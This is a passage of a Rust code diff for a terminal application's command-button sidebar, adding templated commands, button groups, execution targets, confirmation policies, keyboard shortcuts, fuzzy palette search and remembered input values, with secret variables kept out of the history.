@@ -1,5 +1,11 @@
+use regex::Regex;
 use serde::{Deserialize, Serialize};
-use std::collections::HashSet;
+use serde_json::{Map, Value};
+use sha2::{Digest, Sha256};
+use std::collections::{BTreeMap, HashMap, HashSet, VecDeque};
+use std::path::{Path, PathBuf};
+use std::sync::{Mutex, PoisonError};
+use std::time::{Duration, Instant, SystemTime};
 use thiserror::Error;
 use uuid::Uuid;
 
@@ -9,14 +15,148 @@ pub enum AppError {
     #[error("Button not found: {0}")]
     ButtonNotFound(String),
 
+    #[error("Group not found: {0}")]
+    GroupNotFound(String),
+
+    #[error("Invalid group move: {0}")]
+    InvalidGroupMove(String),
+
     #[error("Tab not found: {0}")]
     TabNotFound(String),
 
     #[error("Cannot close the last tab")]
     CannotCloseLastTab,
 
+    #[error("No active tab")]
+    NoActiveTab,
+
+    #[error("Profile not found: {0}")]
+    ProfileNotFound(String),
+
+    #[error("Job not found: {0}")]
+    JobNotFound(String),
+
+    #[error("Job {id} is already {status:?}")]
+    JobFinished { id: String, status: JobStatus },
+
     #[error("JSON error: {0}")]
     Json(#[from] serde_json::Error),
+
+    #[error("Config parse error at line {line}, column {column}: {message}")]
+    ConfigParse {
+        line: usize,
+        column: usize,
+        message: String,
+    },
+
+    #[error("TOML error: {0}")]
+    Toml(#[from] toml::ser::Error),
+
+    #[error("Invalid document: {0}")]
+    InvalidDocument(String),
+
+    #[error("Template error at position {position}: {message}")]
+    Template { position: usize, message: String },
+
+    #[error("Missing value for template variable: {0}")]
+    MissingVariable(String),
+
+    #[error("Invalid value for template variable {name}: {value}")]
+    InvalidChoice { name: String, value: String },
+
+    #[error("Value cannot be passed safely to {shell:?}: {value}")]
+    UnsafeValue { shell: Shell, value: String },
+
+    #[error("Invalid pattern `{pattern}`: {message}")]
+    InvalidPattern { pattern: String, message: String },
+
+    #[error("Command must be confirmed before it runs")]
+    ConfirmationRequired,
+
+    #[error("Invalid environment variable name: {0}")]
+    InvalidEnvName(String),
+
+    #[error("Timed out waiting for output matching `{0}`")]
+    MacroTimeout(String),
+
+    #[error("Macro buttons need a terminal and can't run in the background")]
+    MacroInBackground,
+
+    #[error("Invalid shortcut `{accelerator}`: {message}")]
+    InvalidAccelerator {
+        accelerator: String,
+        message: String,
+    },
+
+    #[error("Invalid color for {field}: `{value}` (expected #rgb, #rrggbb or #rrggbbaa)")]
+    InvalidColor { field: String, value: String },
+
+    #[error("Theme not found: {0}")]
+    ThemeNotFound(String),
+
+    #[error("A theme named {0} already exists")]
+    ThemeExists(String),
+
+    #[error("Invalid {format} theme: {message}")]
+    InvalidTheme {
+        format: ThemeFormat,
+        message: String,
+    },
+
+    #[error("{format} theme is missing the {color} color")]
+    MissingColor { format: ThemeFormat, color: String },
+
+    #[error("Themes can't be exported as {0}")]
+    UnsupportedExport(ThemeFormat),
+
+    #[error("Invalid {setting}: {message}")]
+    InvalidSetting { setting: String, message: String },
+
+    #[error("Project file has not been trusted: {0}")]
+    UntrustedProject(String),
+
+    #[error("Project file changed since it was reviewed: {0}")]
+    ProjectChanged(String),
+
+    #[error("Shortcut {accelerator} for {requested} is already used by {existing}")]
+    KeybindingConflict {
+        accelerator: String,
+        existing: KeyAction,
+        requested: KeyAction,
+    },
+}
+
+impl AppError {
+    /// Builds a `ConfigParse` error, translating the TOML byte span into a
+    /// 1-based line and column within `source`.
+    fn config_parse(source: &str, err: toml::de::Error) -> Self {
+        let (line, column) = err
+            .span()
+            .map(|span| line_column(source, span.start))
+            .unwrap_or((0, 0));
+        AppError::ConfigParse {
+            line,
+            column,
+            message: err.message().to_string(),
+        }
+    }
+}
+
+/// Compiles a user-supplied regular expression
+fn compile_pattern(pattern: &str) -> Result<Regex, AppError> {
+    Regex::new(pattern).map_err(|e| AppError::InvalidPattern {
+        pattern: pattern.to_owned(),
+        message: e.to_string(),
+    })
+}
+
+/// Converts a byte offset into a 1-based (line, column) pair
+fn line_column(source: &str, offset: usize) -> (usize, usize) {
+    let prefix = &source[..offset.min(source.len())];
+    let line = prefix.matches('\n').count() + 1;
+    let line_start = prefix.rfind('\n').map(|i| i + 1).unwrap_or(0);
+    let column = prefix[line_start..].chars().count() + 1;
+    (line, column)
 }
 
 /// Represents a command button in the sidebar
@@ -25,21 +165,357 @@ pub struct CommandButton {
     pub id: String,
     pub name: String,
     pub command: String,
+    /// Group the button belongs to, or None for the top level
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub group_id: Option<String>,
+    /// How many times the button has been run
+    #[serde(default, skip_serializing_if = "is_zero")]
+    pub use_count: u32,
+    /// When the button was last run, in milliseconds since the Unix epoch
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub last_used_ms: Option<u64>,
+    /// Extra words the command palette matches the button by
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub tags: Vec<String>,
+    /// Where the command runs
+    #[serde(default, skip_serializing_if = "ExecutionTarget::is_active_tab")]
+    pub target: ExecutionTarget,
+    /// What the user must do before the command runs
+    #[serde(default, skip_serializing_if = "ConfirmPolicy::is_none")]
+    pub confirm: ConfirmPolicy,
+    /// Environment variables for the command. Values may use template variables.
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub env: BTreeMap<String, String>,
+    /// Working directory the command runs in
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub cwd: Option<String>,
+    /// Shell program for tabs and jobs spawned for this button, instead of the profile's
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub shell: Option<String>,
+    /// Steps run instead of `command`, for macro buttons
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub steps: Vec<MacroStep>,
+    /// Keyboard shortcut that runs the button, e.g. `CmdOrCtrl+Shift+B`
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub accelerator: Option<String>,
+    /// Fields written by a newer version, kept so saving doesn't drop them
+    #[serde(flatten)]
+    pub extra: Map<String, Value>,
 }
 
 impl CommandButton {
     /// Creates a new CommandButton with a generated UUID
     pub fn new(name: String, command: String) -> Self {
+        Self::with_id(Uuid::new_v4().to_string(), name, command)
+    }
+
+    /// Creates a CommandButton with a specific ID (for loading from storage)
+    pub fn with_id(id: String, name: String, command: String) -> Self {
         Self {
-            id: Uuid::new_v4().to_string(),
+            id,
             name,
             command,
+            group_id: None,
+            use_count: 0,
+            last_used_ms: None,
+            tags: Vec::new(),
+            target: ExecutionTarget::ActiveTab,
+            confirm: ConfirmPolicy::None,
+            env: BTreeMap::new(),
+            cwd: None,
+            shell: None,
+            steps: Vec::new(),
+            accelerator: None,
+            extra: Map::new(),
         }
     }
 
-    /// Creates a CommandButton with a specific ID (for loading from storage)
-    pub fn with_id(id: String, name: String, command: String) -> Self {
-        Self { id, name, command }
+    /// Parses the button's command as a template
+    pub fn template(&self) -> Result<Template, AppError> {
+        Template::parse(&self.command)
+    }
+
+    /// Returns true if the button runs macro steps instead of its command
+    pub fn is_macro(&self) -> bool {
+        !self.steps.is_empty()
+    }
+
+    /// Template variables of the command, env values and macro steps, in
+    /// order of first use
+    pub fn variables(&self) -> Result<Vec<TemplateVariable>, AppError> {
+        let mut variables = self.template()?.variables().to_vec();
+        let mut texts: Vec<&str> = self.env.values().map(String::as_str).collect();
+        visit_steps(&self.steps, &mut |step| {
+            if let MacroStep::Send { text, .. } = step {
+                texts.push(text);
+            }
+        });
+        for text in texts {
+            for variable in Template::parse(text)?.variables() {
+                if !variables.iter().any(|v| v.name == variable.name) {
+                    variables.push(variable.clone());
+                }
+            }
+        }
+        Ok(variables)
+    }
+
+    /// Checks that the command, env values and macro steps are valid
+    /// templates and patterns, and the env names can be set in every shell
+    pub fn validate(&self) -> Result<(), AppError> {
+        if let Some(name) = self.env.keys().find(|name| !is_env_name(name)) {
+            return Err(AppError::InvalidEnvName(name.clone()));
+        }
+        let mut patterns = Vec::new();
+        visit_steps(&self.steps, &mut |step| match step {
+            MacroStep::WaitFor { pattern, .. } | MacroStep::IfMatch { pattern, .. } => {
+                patterns.push(pattern.as_str())
+            }
+            MacroStep::WaitForPrompt {
+                pattern: Some(pattern),
+                ..
+            } => patterns.push(pattern.as_str()),
+            _ => {}
+        });
+        for pattern in patterns {
+            compile_pattern(pattern)?;
+        }
+        self.variables()?;
+        Ok(())
+    }
+
+    /// Fills in the template variables of the env values
+    pub fn render_env(
+        &self,
+        values: &HashMap<String, String>,
+    ) -> Result<BTreeMap<String, String>, AppError> {
+        self.env
+            .iter()
+            .map(|(name, value)| Ok((name.clone(), Template::parse(value)?.render(values)?)))
+            .collect()
+    }
+
+    /// Like `render_env`, with secret values masked as in `Template::preview`
+    pub fn preview_env(
+        &self,
+        values: &HashMap<String, String>,
+        secrets: &HashSet<String>,
+    ) -> Result<BTreeMap<String, String>, AppError> {
+        self.env
+            .iter()
+            .map(|(name, value)| {
+                Ok((
+                    name.clone(),
+                    Template::parse(value)?.preview(values, secrets)?,
+                ))
+            })
+            .collect()
+    }
+
+    /// Names of the variables marked `secret` anywhere in the button
+    pub fn secret_variables(&self) -> Result<HashSet<String>, AppError> {
+        let mut secrets = HashSet::new();
+        let mut texts = vec![self.command.as_str()];
+        texts.extend(self.env.values().map(String::as_str));
+        visit_steps(&self.steps, &mut |step| {
+            if let MacroStep::Send { text, .. } = step {
+                texts.push(text);
+            }
+        });
+        for text in texts {
+            for variable in Template::parse(text)?.variables() {
+                if variable.secret {
+                    secrets.insert(variable.name.clone());
+                }
+            }
+        }
+        Ok(secrets)
+    }
+
+    /// Returns a copy without per-user usage statistics, for comparing and sharing
+    pub fn definition(&self) -> CommandButton {
+        CommandButton {
+            use_count: 0,
+            last_used_ms: None,
+            ..self.clone()
+        }
+    }
+}
+
+fn is_zero(n: &u32) -> bool {
+    *n == 0
+}
+
+/// Returns true for names like `NODE_ENV` that every shell accepts
+fn is_env_name(name: &str) -> bool {
+    let mut chars = name.chars();
+    chars
+        .next()
+        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
+        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
+}
+
+/// How a command has to be confirmed before it runs, from least to most strict
+#[derive(Debug, Clone, Copy, Default, Serialize, Deserialize, PartialEq, Eq, PartialOrd, Ord)]
+#[serde(rename_all = "snake_case")]
+pub enum ConfirmPolicy {
+    /// Runs straight away
+    #[default]
+    None,
+    /// Needs a yes/no confirmation
+    Confirm,
+    /// Needs the button's name typed out
+    TypeName,
+}
+
+impl ConfirmPolicy {
+    fn is_none(&self) -> bool {
+        *self == ConfirmPolicy::None
+    }
+}
+
+/// Where a button's command runs
+#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
+#[serde(tag = "mode", rename_all = "snake_case")]
+pub enum ExecutionTarget {
+    /// Typed into whichever tab is active
+    #[default]
+    ActiveTab,
+    /// A fresh tab for every run
+    NewTab {
+        #[serde(default, skip_serializing_if = "Option::is_none")]
+        profile: Option<String>,
+        #[serde(default, skip_serializing_if = "Option::is_none")]
+        cwd: Option<String>,
+    },
+    /// A tab created on first run and reused while it stays open
+    NamedTab {
+        name: String,
+        #[serde(default, skip_serializing_if = "Option::is_none")]
+        profile: Option<String>,
+        #[serde(default, skip_serializing_if = "Option::is_none")]
+        cwd: Option<String>,
+    },
+    /// A new pane split off the active tab
+    SplitPane {
+        #[serde(default)]
+        direction: SplitDirection,
+    },
+    /// A background job without a terminal, with its output captured
+    Background,
+}
+
+/// Orientation of a split pane
+#[derive(Debug, Clone, Copy, Default, Serialize, Deserialize, PartialEq, Eq)]
+#[serde(rename_all = "snake_case")]
+pub enum SplitDirection {
+    #[default]
+    Horizontal,
+    Vertical,
+}
+
+/// A tab that has to be spawned to run a command
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct SpawnRequest {
+    pub profile: Option<String>,
+    pub cwd: Option<String>,
+    /// Name to register the tab under, for named tabs
+    pub name: Option<String>,
+    /// Tab to split, and how, for split panes
+    pub split_from: Option<(String, SplitDirection)>,
+}
+
+/// How to run a command for a given execution target
+#[derive(Debug, Clone, PartialEq)]
+pub enum TargetResolution {
+    /// Type the command into this open tab
+    Existing(String),
+    /// Spawn a tab first, then type the command into it
+    Spawn(SpawnRequest),
+    /// Run the command as a background job
+    Background,
+}
+
+impl ExecutionTarget {
+    fn is_active_tab(&self) -> bool {
+        *self == ExecutionTarget::ActiveTab
+    }
+
+    /// Decides which tab the command goes to. `named_tab` looks up the open
+    /// tab registered under a name, if there is one.
+    pub fn resolve(
+        &self,
+        active_tab: Option<&str>,
+        named_tab: impl Fn(&str) -> Option<String>,
+    ) -> Result<TargetResolution, AppError> {
+        match self {
+            ExecutionTarget::ActiveTab => active_tab
+                .map(|tab| TargetResolution::Existing(tab.to_owned()))
+                .ok_or(AppError::NoActiveTab),
+            ExecutionTarget::NewTab { profile, cwd } => Ok(TargetResolution::Spawn(SpawnRequest {
+                profile: profile.clone(),
+                cwd: cwd.clone(),
+                ..SpawnRequest::default()
+            })),
+            ExecutionTarget::NamedTab { name, profile, cwd } => Ok(match named_tab(name) {
+                Some(tab) => TargetResolution::Existing(tab),
+                None => TargetResolution::Spawn(SpawnRequest {
+                    profile: profile.clone(),
+                    cwd: cwd.clone(),
+                    name: Some(name.clone()),
+                    split_from: None,
+                }),
+            }),
+            ExecutionTarget::SplitPane { direction } => {
+                let parent = active_tab.ok_or(AppError::NoActiveTab)?;
+                Ok(TargetResolution::Spawn(SpawnRequest {
+                    split_from: Some((parent.to_owned(), *direction)),
+                    ..SpawnRequest::default()
+                }))
+            }
+            ExecutionTarget::Background => Ok(TargetResolution::Background),
+        }
+    }
+}
+
+/// Display order of the buttons in the sidebar
+#[derive(Debug, Clone, Copy, Default, Serialize, Deserialize, PartialEq, Eq)]
+#[serde(rename_all = "snake_case")]
+pub enum ButtonSortOrder {
+    /// The order the user arranged the buttons in
+    #[default]
+    Manual,
+    /// Alphabetical by name, ignoring case
+    Name,
+    /// Most run first
+    MostUsed,
+}
+
+/// A named group of buttons in the sidebar. Groups nest through `parent_id`
+/// and are ordered among their siblings by their position in the list.
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
+pub struct ButtonGroup {
+    pub id: String,
+    pub name: String,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub icon: Option<String>,
+    #[serde(default)]
+    pub collapsed: bool,
+    /// Parent group, or None for a top-level group
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub parent_id: Option<String>,
+}
+
+impl ButtonGroup {
+    /// Creates a new expanded ButtonGroup with a generated UUID
+    pub fn new(name: String, parent_id: Option<String>) -> Self {
+        Self {
+            id: Uuid::new_v4().to_string(),
+            name,
+            icon: None,
+            collapsed: false,
+            parent_id,
+        }
     }
 }
 
@@ -47,6 +523,59 @@ impl CommandButton {
 #[derive(Debug, Clone, Serialize, Deserialize)]
 pub struct ButtonManager {
     buttons: Vec<CommandButton>,
+    #[serde(default)]
+    groups: Vec<ButtonGroup>,
+    #[serde(default)]
+    sort_order: ButtonSortOrder,
+    /// Recently entered template values, most recent first, by button ID and variable name
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    value_history: BTreeMap<String, BTreeMap<String, Vec<String>>>,
+}
+
+/// How many recent values are remembered for each template variable
+pub const VALUE_HISTORY_LIMIT: usize = 10;
+
+/// How a button has been used: how often, when last, and the template
+/// values it ran with
+#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
+pub struct ButtonUsage {
+    #[serde(default, skip_serializing_if = "is_zero")]
+    pub use_count: u32,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub last_used_ms: Option<u64>,
+    /// Recently entered values, most recent first, by variable name
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub values: BTreeMap<String, Vec<String>>,
+}
+
+/// Usage of every button by ID. It is saved apart from the config file, so
+/// running a button doesn't rewrite the user's dotfiles or store the values
+/// typed into its prompt there.
+#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
+pub struct UsageState {
+    #[serde(default)]
+    pub buttons: BTreeMap<String, ButtonUsage>,
+}
+
+impl UsageState {
+    pub fn to_json(&self) -> Result<String, AppError> {
+        Ok(serde_json::to_string_pretty(self)?)
+    }
+
+    pub fn from_json(json: &str) -> Result<Self, AppError> {
+        Ok(serde_json::from_str(json)?)
+    }
+}
+
+/// A template variable together with what the prompt should offer for it
+#[derive(Debug, Clone, Serialize, PartialEq)]
+pub struct VariablePrompt {
+    #[serde(flatten)]
+    pub variable: TemplateVariable,
+    /// Most recently used value, to pre-fill the input with
+    pub value: Option<String>,
+    /// Recently used values, most recent first
+    pub suggestions: Vec<String>,
 }
 
 impl ButtonManager {
@@ -54,42 +583,71 @@ impl ButtonManager {
     pub fn new() -> Self {
         Self {
             buttons: Vec::new(),
+            groups: Vec::new(),
+            sort_order: ButtonSortOrder::Manual,
+            value_history: BTreeMap::new(),
         }
     }
 
-    /// Loads buttons from JSON string (simulating localStorage)
+    /// Loads buttons from JSON string (simulating localStorage). Accepts both
+    /// the current object format and a plain list of buttons. Every button
+    /// must be valid. Remembered values of variables that are now `secret`
+    /// are dropped.
     pub fn from_json(json: &str) -> Result<Self, AppError> {
-        let buttons: Vec<CommandButton> = serde_json::from_str(json)?;
-        Ok(Self { buttons })
+        let mut manager = if json.trim_start().starts_with('[') {
+            let buttons: Vec<CommandButton> = serde_json::from_str(json)?;
+            Self {
+                buttons,
+                ..Self::new()
+            }
+        } else {
+            serde_json::from_str(json)?
+        };
+        manager.validate()?;
+        manager.prune_all_value_history();
+        Ok(manager)
+    }
+
+    /// Checks every button, as `add_button` does for a single one, and
+    /// that their shortcuts are valid and don't clash
+    pub fn validate(&self) -> Result<(), AppError> {
+        self.buttons.iter().try_for_each(CommandButton::validate)?;
+        self.keybindings()?;
+        Ok(())
     }
 
-    /// Serializes buttons to JSON string (for localStorage)
+    /// Serializes buttons and groups to JSON string (for localStorage)
     pub fn to_json(&self) -> Result<String, AppError> {
-        Ok(serde_json::to_string(&self.buttons)?)
+        Ok(serde_json::to_string(self)?)
     }
 
-    /// Adds a new button and returns its ID
-    pub fn add_button(&mut self, name: String, command: String) -> String {
+    /// Adds a new button and returns its ID. The command must be a valid template.
+    pub fn add_button(&mut self, name: String, command: String) -> Result<String, AppError> {
         let button = CommandButton::new(name, command);
+        button.validate()?;
         let id = button.id.clone();
         self.buttons.push(button);
-        id
+        Ok(id)
     }
 
-    /// Updates an existing button
+    /// Updates an existing button. The command must be a valid template.
     pub fn update_button(
         &mut self,
         id: &str,
         name: String,
         command: String,
     ) -> Result<(), AppError> {
-        if let Some(button) = self.buttons.iter_mut().find(|b| b.id == id) {
-            button.name = name;
-            button.command = command;
-            Ok(())
-        } else {
-            Err(AppError::ButtonNotFound(id.to_owned()))
-        }
+        let index = self.position(id)?;
+        let updated = CommandButton {
+            name,
+            command,
+            ..self.buttons[index].clone()
+        };
+        updated.validate()?;
+        let variables = updated.variables()?;
+        self.buttons[index] = updated;
+        self.prune_value_history(id, &variables);
+        Ok(())
     }
 
     /// Deletes a button by ID
@@ -97,6 +655,7 @@ impl ButtonManager {
         let initial_len = self.buttons.len();
         self.buttons.retain(|b| b.id != id);
         if self.buttons.len() < initial_len {
+            self.value_history.remove(id);
             Ok(())
         } else {
             Err(AppError::ButtonNotFound(id.to_owned()))
@@ -117,241 +676,9210 @@ impl ButtonManager {
     pub fn count(&self) -> usize {
         self.buttons.len()
     }
-}
 
-impl Default for ButtonManager {
-    fn default() -> Self {
-        Self::new()
+    /// Moves a button to `index` in the manual order. An index past the end
+    /// places the button last.
+    pub fn move_button(&mut self, id: &str, index: usize) -> Result<(), AppError> {
+        let position = self.position(id)?;
+        let button = self.buttons.remove(position);
+        let index = index.min(self.buttons.len());
+        self.buttons.insert(index, button);
+        Ok(())
     }
-}
 
-/// Terminal configuration
-#[derive(Debug, Clone, Serialize, Deserialize)]
-pub struct TerminalConfig {
-    pub cursor_blink: bool,
-    pub background_color: String,
-    pub foreground_color: String,
-}
+    /// Adds a copy of a suggested button, e.g. a discovered command, under a
+    /// new ID and returns that ID
+    pub fn adopt_button(&mut self, button: &CommandButton) -> Result<String, AppError> {
+        let mut button = button.definition();
+        button.id = Uuid::new_v4().to_string();
+        button.validate()?;
+        let id = button.id.clone();
+        self.buttons.push(button);
+        Ok(id)
+    }
 
-impl Default for TerminalConfig {
-    fn default() -> Self {
-        Self {
-            cursor_blink: true,
-            background_color: "#1e1e1e".to_string(),
-            foreground_color: "#d4d4d4".to_string(),
+    /// Copies a button without its shortcut, placing the copy right after the
+    /// original, and returns the copy's ID
+    pub fn duplicate_button(&mut self, id: &str) -> Result<String, AppError> {
+        let position = self.position(id)?;
+        let mut copy = self.buttons[position].definition();
+        copy.id = Uuid::new_v4().to_string();
+        copy.name.push_str(" (copy)");
+        // Two buttons can't share a shortcut
+        copy.accelerator = None;
+        let copy_id = copy.id.clone();
+        self.buttons.insert(position + 1, copy);
+        Ok(copy_id)
+    }
+
+    /// Deletes several buttons. Nothing is deleted if any ID is unknown.
+    pub fn delete_buttons(&mut self, ids: &[&str]) -> Result<(), AppError> {
+        self.require_buttons(ids)?;
+        self.buttons.retain(|b| !ids.contains(&b.id.as_str()));
+        for id in ids {
+            self.value_history.remove(*id);
         }
+        Ok(())
     }
-}
 
-/// Sidebar configuration
-#[derive(Debug, Clone, Serialize, Deserialize)]
-pub struct SidebarConfig {
-    pub width: u32,
-}
+    /// Moves several buttons into a group. Nothing moves if any ID is unknown.
+    pub fn move_buttons_to_group(
+        &mut self,
+        ids: &[&str],
+        group_id: Option<&str>,
+    ) -> Result<(), AppError> {
+        self.require_buttons(ids)?;
+        if let Some(group_id) = group_id {
+            self.require_group(group_id)?;
+        }
+        for button in self.buttons.iter_mut() {
+            if ids.contains(&button.id.as_str()) {
+                button.group_id = group_id.map(str::to_owned);
+            }
+        }
+        Ok(())
+    }
 
-impl Default for SidebarConfig {
-    fn default() -> Self {
-        Self { width: 200 }
+    /// Changes where a button's command runs
+    pub fn set_button_target(&mut self, id: &str, target: ExecutionTarget) -> Result<(), AppError> {
+        let position = self.position(id)?;
+        self.buttons[position].target = target;
+        Ok(())
     }
-}
 
-/// Application state
-#[derive(Debug, Clone, Serialize, Deserialize)]
-pub struct AppState {
-    pub button_manager: ButtonManager,
-    pub terminal_config: TerminalConfig,
-    pub sidebar_config: SidebarConfig,
-}
+    /// Sets or clears a button's keyboard shortcut. The shortcut is stored as
+    /// written, so `CmdOrCtrl` still resolves per platform when the config is
+    /// shared, and must not clash with a built-in shortcut or another button's.
+    pub fn set_accelerator(&mut self, id: &str, accelerator: Option<&str>) -> Result<(), AppError> {
+        let position = self.position(id)?;
+        let accelerator = match accelerator {
+            Some(text) => {
+                let accelerator = text.trim().to_owned();
+                let mut keybindings = Keybindings::builtin();
+                for button in self.buttons.iter().filter(|b| b.id != id) {
+                    keybindings.bind_button(button)?;
+                }
+                keybindings.bind(
+                    &accelerator,
+                    KeyAction::RunButton {
+                        button_id: id.to_owned(),
+                    },
+                )?;
+                Some(accelerator)
+            }
+            None => None,
+        };
+        self.buttons[position].accelerator = accelerator;
+        Ok(())
+    }
 
-impl AppState {
-    pub fn new() -> Self {
-        Self {
-            button_manager: ButtonManager::new(),
-            terminal_config: TerminalConfig::default(),
-            sidebar_config: SidebarConfig::default(),
+    /// Resolves the built-in shortcuts and every button's shortcut into one map
+    pub fn keybindings(&self) -> Result<Keybindings, AppError> {
+        let mut keybindings = Keybindings::builtin();
+        for button in &self.buttons {
+            keybindings.bind_button(button)?;
         }
+        Ok(keybindings)
     }
 
-    /// Saves the state to JSON
-    pub fn to_json(&self) -> Result<String, AppError> {
-        Ok(serde_json::to_string(self)?)
+    /// Counts a run of the button at `now_ms`, for the most used sort order
+    /// and palette ranking
+    pub fn record_use(&mut self, id: &str, now_ms: u64) -> Result<(), AppError> {
+        let position = self.position(id)?;
+        let button = &mut self.buttons[position];
+        button.use_count = button.use_count.saturating_add(1);
+        button.last_used_ms = Some(now_ms);
+        Ok(())
     }
 
-    /// Loads the state from JSON
-    pub fn from_json(json: &str) -> Result<Self, AppError> {
-        Ok(serde_json::from_str(json)?)
+    /// Ranks the buttons for a command palette query. Every whitespace
+    /// separated word of the query has to fuzzy-match the button's name,
+    /// command, group or tags. Scores are weighted by frecency, and ties are
+    /// broken by name and then ID so the order is stable. An empty query
+    /// lists every button by frecency.
+    pub fn search(&self, query: &str, now_ms: u64) -> Vec<PaletteMatch> {
+        let terms: Vec<&str> = query.split_whitespace().collect();
+        let mut matches: Vec<PaletteMatch> = self
+            .buttons
+            .iter()
+            .filter_map(|button| {
+                let group = button
+                    .group_id
+                    .as_deref()
+                    .and_then(|id| self.get_group(id))
+                    .map(|g| g.name.as_str());
+                let mut fields = vec![
+                    (MatchField::Name, None, button.name.as_str()),
+                    (MatchField::Command, None, button.command.as_str()),
+                ];
+                fields.extend(group.map(|name| (MatchField::Group, None, name)));
+                fields.extend(
+                    button
+                        .tags
+                        .iter()
+                        .enumerate()
+                        .map(|(i, tag)| (MatchField::Tag, Some(i), tag.as_str())),
+                );
+
+                let mut total = 0;
+                let mut highlights = Vec::new();
+                for term in &terms {
+                    let (score, field, tag, ranges) = fields
+                        .iter()
+                        .filter_map(|(field, tag, text)| {
+                            let found = fuzzy_match(term, text)?;
+                            Some((
+                                found.score * field.weight() / 100,
+                                *field,
+                                *tag,
+                                found.ranges,
+                            ))
+                        })
+                        .max_by_key(|(score, ..)| *score)?;
+                    total += score;
+                    highlights.extend(ranges.into_iter().map(|(start, end)| Highlight {
+                        field,
+                        tag,
+                        start,
+                        end,
+                    }));
+                }
+                let frecency = frecency(button.use_count, button.last_used_ms, now_ms);
+                // Weak matches score below zero, where multiplying would
+                // push frequently used buttons down instead of up
+                let total = total as f64;
+                Some(PaletteMatch {
+                    button_id: button.id.clone(),
+                    score: if terms.is_empty() {
+                        frecency
+                    } else {
+                        total + total.abs() * (frecency - 1.0)
+                    },
+                    highlights: merge_highlights(highlights),
+                })
+            })
+            .collect();
+
+        let names: HashMap<&str, String> = self
+            .buttons
+            .iter()
+            .map(|b| (b.id.as_str(), b.name.to_lowercase()))
+            .collect();
+        matches.sort_by(|a, b| {
+            b.score
+                .total_cmp(&a.score)
+                .then_with(|| names[a.button_id.as_str()].cmp(&names[b.button_id.as_str()]))
+                .then_with(|| a.button_id.cmp(&b.button_id))
+        });
+        matches
     }
-}
 
-impl Default for AppState {
-    fn default() -> Self {
-        Self::new()
+    /// Gets the display order of the buttons
+    pub fn sort_order(&self) -> ButtonSortOrder {
+        self.sort_order
     }
-}
 
-/// Manages tab IDs and tracks active tabs
-#[derive(Debug, Clone)]
-pub struct TabManager {
-    next_tab_num: u32,
-    active_tabs: HashSet<String>,
-    active_tab_id: Option<String>,
-}
+    /// Sets the display order of the buttons. The manual order is kept.
+    pub fn set_sort_order(&mut self, sort_order: ButtonSortOrder) {
+        self.sort_order = sort_order;
+    }
 
-impl TabManager {
-    /// Creates a new TabManager
-    pub fn new() -> Self {
-        Self {
-            next_tab_num: 0,
-            active_tabs: HashSet::new(),
-            active_tab_id: None,
+    /// Gets all buttons in display order. Ties keep their manual order.
+    pub fn sorted_buttons(&self) -> Vec<&CommandButton> {
+        let mut buttons: Vec<_> = self.buttons.iter().collect();
+        match self.sort_order {
+            ButtonSortOrder::Manual => {}
+            ButtonSortOrder::Name => {
+                buttons.sort_by_cached_key(|b| b.name.to_lowercase());
+            }
+            ButtonSortOrder::MostUsed => {
+                buttons.sort_by_key(|b| std::cmp::Reverse(b.use_count));
+            }
         }
+        buttons
     }
 
-    /// Creates a new tab and returns its ID
-    pub fn create_tab(&mut self) -> String {
-        let tab_id = format!("tab-{}", self.next_tab_num);
-        self.next_tab_num += 1;
-        self.active_tabs.insert(tab_id.clone());
-
-        // Set as active if it's the first tab
-        if self.active_tab_id.is_none() {
-            self.active_tab_id = Some(tab_id.clone());
+    /// Remembers the values a templated button was run with. Blank values and
+    /// variables marked `secret` are never stored.
+    pub fn record_values(
+        &mut self,
+        id: &str,
+        values: &HashMap<String, String>,
+    ) -> Result<(), AppError> {
+        let variables = self.buttons[self.position(id)?].variables()?;
+        let history = self.value_history.entry(id.to_owned()).or_default();
+        for variable in variables.iter().filter(|v| !v.secret) {
+            let Some(value) = values.get(&variable.name).filter(|v| !v.is_empty()) else {
+                continue;
+            };
+            let recent = history.entry(variable.name.clone()).or_default();
+            recent.retain(|v| v != value);
+            recent.insert(0, value.clone());
+            recent.truncate(VALUE_HISTORY_LIMIT);
         }
+        if history.is_empty() {
+            self.value_history.remove(id);
+        }
+        Ok(())
+    }
 
-        tab_id
+    /// Gets the remembered values of a button's variable, most recent first
+    pub fn value_history(&self, id: &str, variable: &str) -> &[String] {
+        self.value_history
+            .get(id)
+            .and_then(|history| history.get(variable))
+            .map(Vec::as_slice)
+            .unwrap_or(&[])
     }
 
-    /// Closes a tab by ID. Returns error if tab doesn't exist or is the last tab.
-    pub fn close_tab(&mut self, tab_id: &str) -> Result<(), AppError> {
-        if !self.active_tabs.contains(tab_id) {
-            return Err(AppError::TabNotFound(tab_id.to_owned()));
-        }
+    /// Describes a button's template variables for the parameter prompt,
+    /// pre-filled with the most recently used values
+    pub fn prompt(&self, id: &str) -> Result<Vec<VariablePrompt>, AppError> {
+        self.prompt_for(&self.buttons[self.position(id)?])
+    }
 
-        if self.active_tabs.len() <= 1 {
-            return Err(AppError::CannotCloseLastTab);
-        }
+    /// Like `prompt`, for a button that may not be one of these, such as a
+    /// project button. Only buttons with a value history get suggestions.
+    pub fn prompt_for(&self, button: &CommandButton) -> Result<Vec<VariablePrompt>, AppError> {
+        Ok(button
+            .variables()?
+            .into_iter()
+            .map(|variable| {
+                let suggestions = if variable.secret {
